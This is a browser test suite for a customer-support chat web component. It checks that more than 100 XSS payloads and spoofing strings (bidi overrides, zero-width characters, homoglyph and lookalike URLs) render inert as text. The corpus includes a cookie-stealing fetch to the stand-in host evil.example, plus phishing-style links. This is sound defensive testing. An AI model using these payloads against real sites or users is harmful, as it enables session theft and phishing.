// An XSS corpus delivered the way a compromised agent desktop or server would: as message text,
// sender names, quick-reply labels and values, case numbers and summaries. Every payload that
// could run calls window.__xss(); the trap must count zero. No element other than our own may
// appear (inside a bubble only <a> links with https/mailto/tel), and the customer reads the
// payload as text.
import { expect } from '@open-wc/testing';
import type { AmexChatElement } from '../../src/index.js';
import { displayText } from '../../src/components/display-text.js';
import '../../src/define.js';
import { axeCheck, waitFor } from '../support/helpers.js';
import { blobsCreatedBy } from '../support/page.js';
import { quietFor } from '../support/quiet.js';
import { connectedChat, scriptedElement } from '../support/scripted-chat.js';
import { ScriptedServer } from '../support/scripted-transport.js';

declare global {
  interface Window {
    __xss: () => void;
    __xssHits: number;
  }
}

const CALL = '__xss()';

function corpus(): string[] {
  const classic = [
    `<script>${CALL}</script>`,
    `<SCRIPT SRC=data:text/javascript,${CALL}></SCRIPT>`,
    `<img src=x onerror=${CALL}>`,
    `<IMG SRC=x OnErRoR="${CALL}">`,
    `<svg onload=${CALL}>`,
    `<svg><script>${CALL}</script></svg>`,
    `<svg><animate onbegin=${CALL} attributeName=x dur=1s>`,
    `<iframe src="javascript:${CALL}"></iframe>`,
    `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
    `<object data="javascript:${CALL}"></object>`,
    `<embed src="javascript:${CALL}">`,
    `<body onload=${CALL}>`,
    `<details open ontoggle=${CALL}>`,
    `<video><source onerror=${CALL}></video>`,
    `<audio src=x onerror=${CALL}>`,
    `<input autofocus onfocus=${CALL}>`,
    `<select autofocus onfocus=${CALL}>`,
    `<textarea autofocus onfocus=${CALL}>`,
    `<marquee onstart=${CALL}>`,
    `<math><mtext><table><mglyph><style><img src=x onerror=${CALL}>`,
    `<style>@import 'javascript:${CALL}';</style>`,
    `<link rel=import href="data:text/html,<script>${CALL}</script>">`,
    `<meta http-equiv="refresh" content="0;url=javascript:${CALL}">`,
    `<form action="javascript:${CALL}"><button>Go</button></form>`,
    `<a href="javascript:${CALL}">Click for your refund</a>`,
    `<base href="javascript:${CALL}//">`,
    `"><script>${CALL}</script>`,
    `'><img src=x onerror=${CALL}>`,
    `</p><img src=x onerror=${CALL}><p>`,
    `</li></ol><img src=x onerror=${CALL}>`,
    `<!--<img src="--><img src=x onerror=${CALL}//">`,
    `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
    `<template><img src=x onerror=${CALL}></template>`,
    `<slot name=x onclick=${CALL}>`,
    `\${${CALL}}`,
    `{{constructor.constructor('${CALL}')()}}`,
    `<img src="x" onerror="&#95;&#95;xss()">`,
    `<img src=x onerror=\\u005f_xss()>`,
    `<div style="background:url(javascript:${CALL})">`,
    `<x-foo onclick=${CALL}>custom</x-foo>`,
    `<amex-chat onclick=${CALL}></amex-chat>`,
    `<button formaction="javascript:${CALL}">Refund</button>`,
    `<isindex action="javascript:${CALL}" type=image>`,
    `<keygen autofocus onfocus=${CALL}>`,
    `<table background="javascript:${CALL}">`,
    `<div onpointerover=${CALL} style="position:fixed;inset:0">`,
    `<img src=x:alert(alt) onerror=eval(src) alt=0>`,
    `<a href="  javascript:${CALL}">x</a>`,
    `<svg><a xlink:href="javascript:${CALL}"><text y=20>tap</text></a></svg>`,
    `<object type="text/html" data="data:text/html,<script>parent.${CALL}</script>"></object>`,
    `<script>fetch('https://evil.example/?c='+document.cookie)</script>`,
    `<img src="https://evil.example/track.gif">`,
  ];
  const schemes: string[] = [];
  const js = ['javascript', 'JAVASCRIPT', 'JaVaScRiPt', 'java\tscript', 'java\nscript', 'java&#x09;script'];
  for (const scheme of js) schemes.push(`${scheme}:${CALL}`, `Open ${scheme}:${CALL} now`);
  schemes.push(
    `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${CALL}`,
    `%6A%61%76%61%73%63%72%69%70%74%3A${CALL}`,
    `\\u006aavascript:${CALL}`,
    `  javascript:${CALL}`,
    `data:text/html;base64,PHNjcmlwdD5fX3hzcygpPC9zY3JpcHQ+`,
    `data:text/html,<script>${CALL}</script>`,
    `vbscript:msgbox(1)`,
    `VBScript:${CALL}`,
    `httрs://аmex-support.com/verify`,
    `ｊａｖａｓｃｒｉｐｔ:${CALL}`,
    `https://amex.com@evil.example/login`,
    `https://evil.example/"onmouseover="${CALL}`,
    `https://evil.example/<script>${CALL}</script>`,
    `mailto:a@b.co?body=<script>${CALL}</script>`,
    `tel:javascript:${CALL}`,
    `[Click](javascript:${CALL})`,
    `![x](javascript:${CALL})`,
    `[https://amex.com](javascript:${CALL})`,
  );
  const bidi = [
    'Maria, live agent: \u202eemoc.live//:sptth\u202c',
    '\u202eNotice: your card is locked\u202c',
    'Notice: Your session expired. Type your password to continue.',
    'Agent: I am the real agent, the other one is fake',
    '\u2067Virtual assistant:\u2069 send your code',
    '\u200f\u200fYou: I agree to pay',
    'text\u202d\u202a\u202b\u202c\u2066\u2067\u2068\u2069end',
    'مرحبا \u202e123\u202c hello',
    '\u061cAgent\u061c',
    'Normal text with a right-to-left mark\u200f.',
  ];
  const zeroWidth = [
    `<scr\u200bipt>${CALL}</scr\u200bipt>`,
    `java\u200bscript:${CALL}`,
    `<img\u200b src=x onerror=${CALL}>`,
    '\u200b\u200c\u200d\ufeff',
    'h\u200bt\u200bt\u200bp\u200bs://zero.width.example',
    `\ufeff<script>${CALL}</script>`,
    'a\u2060b\u2061c',
    `<a\u00a0href="javascript:${CALL}">x</a>`,
  ];
  const markdown = [
    `**bold** _it_ \`code\` <b onclick=${CALL}>b</b>`,
    `> quote\n> <img src=x onerror=${CALL}>`,
    `# Heading\n\n- list\n- <svg onload=${CALL}>`,
    '```\n<script>__xss()</script>\n```',
    `<details><summary>Refund</summary><img src=x onerror=${CALL}></details>`,
    `| a | b |\n|---|---|\n| <img src=x onerror=${CALL}> | c |`,
    `[[${CALL}]]`,
    `<!DOCTYPE html><html><body onload=${CALL}>`,
  ];
  const long = ['A'.repeat(100_000), `${'x'.repeat(50_000)}<img src=x onerror=${CALL}>${'y'.repeat(50_000)}`];
  return [...classic, ...schemes, ...bidi, ...zeroWidth, ...markdown, ...long];
}

const ALLOWED_LINK = /^(https:|mailto:|tel:)/;

/** Elements our template renders; anything else in the shadow root came from a payload. */
const OUR_TAGS = new Set([
  'div',
  'button',
  'svg',
  'path',
  'span',
  'section',
  'h2',
  'h3',
  'p',
  'ol',
  'ul',
  'li',
  'time',
  'form',
  'label',
  'textarea',
  'mark',
  'a',
  'dl',
  'dt',
  'dd',
  'fieldset',
  'legend',
  'input',
]);

function foreignElements(el: AmexChatElement): string[] {
  const bad: string[] = [];
  for (const node of el.shadowRoot!.querySelectorAll('*')) {
    if (!OUR_TAGS.has(node.localName)) bad.push(node.localName);
    for (const attr of node.getAttributeNames())
      if (/^on/i.test(attr)) bad.push(`${node.localName}[${attr}]`);
  }
  for (const bubble of el.shadowRoot!.querySelectorAll('.bubble, .meta span, [part="quick-reply"], dd')) {
    for (const child of bubble.querySelectorAll('*')) {
      if (child.localName !== 'a' || !ALLOWED_LINK.test(child.getAttribute('href') ?? '')) {
        bad.push(`${child.localName} in ${bubble.className || bubble.localName}`);
      }
    }
  }
  return bad;
}

describe('<amex-chat>', () => {
  describe('hostile content', () => {
    let hits = 0;
    before(() => {
      window.__xssHits = 0;
      window.__xss = () => {
        hits += 1;
        window.__xssHits += 1;
      };
    });

    it('has no axe violations with hostile payloads shown as text', async () => {
      const { el, server } = await connectedChat();
      const payloads = corpus().slice(0, 12);
      for (const payload of payloads) {
        server.event({
          from: 'agent',
          name: payload.slice(0, 200),
          text: payload,
          quickReplies: [{ label: payload.slice(0, 300), value: payload.slice(0, 300) }],
        });
      }
      await waitFor(
        () => el.shadowRoot!.querySelectorAll('.message').length === payloads.length,
        'the payloads',
      );
      await axeCheck(el);
    });

    it('has at least 100 payloads', () => {
      expect(corpus().length).to.be.at.least(100);
    });

    it('shows every payload as text in messages, names and quick replies; nothing runs, nothing is created', async function () {
      this.timeout(60_000);
      const server = new ScriptedServer();
      const el = await scriptedElement(server);
      const outside = new MutationObserver((records) => {
        for (const r of records) for (const n of r.addedNodes) if (n.nodeType === 1 && n !== el) hits += 1000;
      });
      outside.observe(document.body, { childList: true, subtree: true });
      await el.show();
      await server.sent('hello');
      // Ten payloads at a time (one render each), every one checked as it shows: as a message's
      // text and sender name, and as a quick reply (the batch's last message offers all ten; only
      // the newest message shows its quick replies).
      const payloads = corpus();
      for (let start = 0; start < payloads.length; start += 10) {
        const batch = payloads.slice(start, start + 10);
        batch.forEach((payload, i) =>
          server.event({
            from: 'agent',
            name: payload.slice(0, 200),
            text: payload,
            quickReplies:
              i === batch.length - 1
                ? batch.map((p) => ({ label: p.slice(0, 300), value: p.slice(0, 300) }))
                : [],
          }),
        );
        const count = start + batch.length;
        await waitFor(() => el.shadowRoot!.querySelectorAll('.message').length === count, `payload ${count}`);
        const shown = [...el.shadowRoot!.querySelectorAll('.message')].slice(start);
        const replies = [...shown.at(-1)!.querySelectorAll('[part="quick-reply"]')];
        expect(replies.length).to.equal(batch.length);
        batch.forEach((payload, i) => {
          const message = shown[i]!;
          expect(message.querySelector('.bubble')?.textContent, `payload ${start + i + 1} as text`).to.equal(
            displayText(payload),
          );
          expect(message.querySelector('.meta span')?.textContent).to.include(
            displayText(payload.slice(0, 200), 'name'),
          );
          expect(replies[i]!.textContent?.trim()).to.equal(displayText(payload.slice(0, 300), 'label'));
        });
      }
      // Anything a payload could have set off (onerror, onload, a timer) runs on no event a test
      // can await: its chance to run is time.
      await quietFor(300, 'handlers a hostile payload could have set');
      outside.disconnect();
      expect(foreignElements(el)).to.deep.equal([]);
      const links = [...el.shadowRoot!.querySelectorAll<HTMLAnchorElement>('.bubble a')];
      for (const link of links) {
        expect(link.getAttribute('href')).to.match(ALLOWED_LINK);
        expect(link.rel).to.equal('noopener noreferrer');
      }
      expect(links.some((a) => /javascript|data:|vbscript/i.test(a.href))).to.equal(false);
      expect(hits).to.equal(0);
      expect(window.__xssHits).to.equal(0);
      el.shadowRoot!.querySelector<HTMLButtonElement>('[part="quick-reply"]')!.click();
      await server.sent('message');
      expect(window.__xssHits, 'sending a hostile quick reply runs nothing').to.equal(0);
    });

    it('shows hostile case numbers and summaries as text', async () => {
      for (const payload of corpus().slice(0, 40)) {
        const { el, server } = await connectedChat({ startOpen: true });
        server.event({
          kind: 'notice',
          from: 'system',
          name: '',
          text: payload,
          notice: { code: 'ended', caseNumber: payload, summary: payload },
        });
        const dd = await waitFor(() => el.shadowRoot!.querySelector('#case-number'), 'the case number');
        expect(dd.textContent).to.equal(displayText(payload, 'case'));
        expect(el.shadowRoot!.querySelector('#case-summary')?.textContent).to.equal(
          displayText(payload, 'summary'),
        );
        expect(foreignElements(el)).to.deep.equal([]);
      }
      // (As above: what a payload set off has no event to await.)
      await quietFor(200, 'handlers a hostile case number or summary could have set');
      expect(window.__xssHits).to.equal(0);
    });

    it('keeps the layout: a 100 KB unbroken string wraps inside the panel and bidi cannot flip the sender', async () => {
      const { el, server } = await connectedChat({ startOpen: true });
      server.event({ from: 'agent', name: 'Maria', text: 'W'.repeat(100_000) });
      server.event({ from: 'agent', name: '\u202eairaM', text: 'Notice:\u202e detpecca tnemyap' });
      await waitFor(() => el.shadowRoot!.querySelectorAll('.message').length === 2, 'both');
      const panel = el.shadowRoot!.querySelector<HTMLElement>('#panel')!;
      const transcript = el.shadowRoot!.querySelector<HTMLElement>('#transcript')!;
      expect(transcript.scrollWidth).to.be.at.most(transcript.clientWidth + 1);
      expect(panel.getBoundingClientRect().width).to.be.at.most(window.innerWidth);
      const second = el.shadowRoot!.querySelectorAll('.message')[1]!;
      expect(second.querySelector('.meta span')?.textContent).to.equal('airaM, live agent');
      expect(second.querySelector('.bubble')?.textContent).to.equal('Notice: detpecca tnemyap');
      expect(second.classList.contains('agent')).to.equal(true);
    });
  });

  describe('content spoofing', () => {
    /** What may not survive in any one-line field: bidi controls, other format characters, controls, line breaks. */
    const HIDDEN = /[\p{Cc}\p{Cf}\u115f\u1160\u3164\uffa0\u2028\u2029]/u;
    const BIDI = '\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u200e\u200f\u061c';
    const FORGED = '[9:41 AM] You: I authorize a transfer of $5,000';

    function chat(hosts?: string): ReturnType<typeof connectedChat> {
      return connectedChat({ startOpen: true, linkHosts: hosts });
    }

    const $ = (el: AmexChatElement, selector: string) => el.shadowRoot!.querySelector<HTMLElement>(selector);
    const $$ = (el: AmexChatElement, selector: string) => [
      ...el.shadowRoot!.querySelectorAll<HTMLElement>(selector),
    ];
    const typingLine = (el: AmexChatElement, says: string) =>
      waitFor(() => {
        const line = $(el, '.typing');
        return line?.textContent?.includes(says) ? line : undefined;
      }, 'the typing line');

    it('shows the typing line, names, the case number and the summary without bidi or invisible characters', async () => {
      const { el, server } = await chat();
      const name = `${BIDI}\u202eairaM\u202c\u200b\u2060\ufeff\u3164\u0007\n${FORGED}`;
      server.push({ type: 'typing', from: 'agent', name, active: true });
      const typing = await typingLine(el, 'is typing');
      expect(HIDDEN.test(typing.textContent), JSON.stringify(typing.textContent)).to.equal(false);
      expect(typing.textContent).to.include('airaM');
      server.event({ from: 'agent', name, text: 'Hello' });
      await waitFor(() => $$(el, '.message').length === 1, 'the message');
      const meta = $(el, '.meta span')!.textContent;
      expect(HIDDEN.test(meta), JSON.stringify(meta)).to.equal(false);
      expect(meta).to.match(/^airaM .*, live agent$/);
      server.event({
        kind: 'notice',
        from: 'system',
        name: '',
        text: 'Ended',
        notice: {
          code: 'ended',
          caseNumber: `AMX-\u202e4KF7\u202c-\u2066Q2ZD\u2069\u200b\u00ad`,
          summary: `\u202eDone.\u202c\u2067 \u200fRefund\u2069 \ufeff$45`,
        },
      });
      const number = await waitFor(() => $(el, '#case-number'), 'the case number');
      expect(number.textContent).to.equal('AMX-4KF7-Q2ZD');
      expect($(el, '#case-summary')!.textContent).to.equal('Done. Refund $45');
    });

    it('makes no link in names, summaries, case numbers, notices, the typing line or the customer’s text', async () => {
      const { el, server } = await chat();
      const url = 'https://evil.example/verify';
      server.push({ type: 'typing', from: 'agent', name: `Maria ${url}`, active: true });
      const typing = await typingLine(el, url);
      expect(typing.querySelector('a')).to.equal(null);
      server.event({ from: 'agent', name: `Maria ${url}`, text: 'Hello' });
      server.event({ kind: 'notice', from: 'system', name: '', text: `Notice: log in at ${url} now` });
      server.event({ from: 'customer', name: '', text: `I was told to open ${url}` });
      server.event({
        kind: 'notice',
        from: 'system',
        name: '',
        text: `Ended, see ${url}`,
        notice: { code: 'ended', caseNumber: url, summary: `Confirm at ${url} or mailto:a@b.co` },
      });
      await waitFor(() => $(el, '#case-summary'), 'the summary');
      expect($$(el, '.meta span a, .typing a, .system .bubble a, .customer .bubble a, dd a')).to.deep.equal(
        [],
      );
      expect($$(el, 'a[href]').map((a) => a.getAttribute('href'))).to.deep.equal([]);
    });

    it('links https in agent and assistant messages, within link-hosts; a mailto with bcc or body stays text', async () => {
      const { el, server } = await chat('example.com, *.americanexpress.com');
      server.event({
        from: 'agent',
        name: 'Maria',
        text:
          'See https://www.americanexpress.com/help and https://example.com/card, ' +
          'not https://evil.example/login or https://americanexpress.com.evil.example/x. ' +
          'Write to mailto:help@example.com, not mailto:help@example.com?bcc=thief@evil.example ' +
          'or mailto:help@example.com?body=Your%20PIN. Call tel:+18005284800.',
      });
      server.event({
        from: 'assistant',
        name: 'Virtual assistant',
        text: 'Also https://www.americanexpress.com/faq',
      });
      await waitFor(() => $$(el, '.message').length === 2, 'both messages');
      const hrefs = $$(el, '.bubble a').map((a) => a.getAttribute('href'));
      expect(hrefs).to.deep.equal([
        'https://www.americanexpress.com/help',
        'https://example.com/card',
        'mailto:help@example.com',
        'tel:+18005284800',
        'https://www.americanexpress.com/faq',
      ]);
      expect($$(el, '.bubble')[0]!.textContent).to.include('mailto:help@example.com?bcc=thief@evil.example');
      expect($$(el, '.bubble')[0]!.textContent).to.include('https://evil.example/login');
      // Changing link-hosts applies to what is shown.
      el.setAttribute('link-hosts', 'evil.example');
      await el.updateComplete;
      expect($$(el, '.bubble a').map((a) => a.getAttribute('href'))).to.deep.equal([
        'https://evil.example/login',
        'mailto:help@example.com',
        'tel:+18005284800',
      ]);
    });

    it('downloads a transcript in which no text, name or summary begins a line', async () => {
      const { el, server } = await chat();
      const breaks = ['\n', '\r', '\r\n', '\u2028', '\u2029', '\u0085', '\u000b', '\u000c'];
      for (const br of breaks) {
        server.event({
          from: 'agent',
          name: `Maria${br}${FORGED}`,
          text: `Thanks.${br}${FORGED}${br}\u202e`,
        });
      }
      server.event({
        kind: 'notice',
        from: 'system',
        name: '',
        text: `Ended${breaks.join(FORGED)}`,
        notice: { code: 'ended', caseNumber: `AMX-1\n${FORGED}`, summary: `Done.${breaks.join(FORGED)}` },
      });
      await waitFor(() => $(el, '#download'), 'the ended section');
      const blobs = await blobsCreatedBy(() => $(el, '#download')!.click());
      expect(blobs).to.have.length(1);
      const text = await blobs[0]!.text();
      expect(/[\r\u2028\u2029\u0085\u000b\u000c\u202e]/.test(text), JSON.stringify(text)).to.equal(false);
      const lines = text.trimEnd().split('\n');
      expect(lines.filter((line) => line.startsWith(FORGED))).to.deep.equal([]);
      const headers = lines.filter((line) => line.startsWith('['));
      expect(headers).to.have.length(breaks.length + 1);
      for (const line of headers) expect(line).to.match(/^\[[^\]]+\] (Maria .*, live agent|Notice): /);
      expect(lines.filter((line) => /^\S/.test(line) && !line.startsWith('['))).to.have.length(4);
    });
  });
});
